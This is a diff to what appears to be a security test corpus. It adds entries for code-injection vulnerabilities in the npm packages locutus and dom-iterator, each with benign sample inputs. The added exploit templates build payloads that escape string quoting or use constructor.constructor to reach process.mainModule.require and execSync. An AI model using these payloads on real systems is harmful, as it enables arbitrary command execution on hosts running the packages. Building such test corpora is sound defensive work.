@@ -143,6 +143,22 @@ export default [
     ordinary: ['SUM(price, count)', 'IF(price > 10, "dear", "cheap")', 'SUM({1,2,3})'],
   }),
   formula({
+    package: 'locutus',
+    id: 'CVE-2026-29091',
+    title: 'the name of a function of Math ends its quotes',
+    exploit: (code) =>
+      `Math.abs'];${code.replaceAll('process.mainModule.require', "globalThis['process']['mainModule']['require']").replaceAll(').', ')[`execSync`]').replace('[`execSync`]execSync', '[`execSync`]')};Math['abs`,
+    ordinary: ['Math.max', 'Math.pow', 'isNaN'],
+  }),
+  formula({
+    package: 'dom-iterator',
+    id: 'CVE-2024-21541',
+    title: 'what selects nodes becomes code',
+    exploit: (code) =>
+      `constructor.constructor("return ${code.replace('process.mainModule', "globalThis['process']['mainModule']")}")()`,
+    ordinary: ['nodeType == 3', 'nodeType == 8', 'nodeType == 3 && nodeValue.length > 3'],
+  }),
+  formula({
     package: 'gray-matter',
     id: '–',
     title: 'the head of a page says that it is JavaScript (CVE-2025-65108 of md-to-pdf, which uses it)',
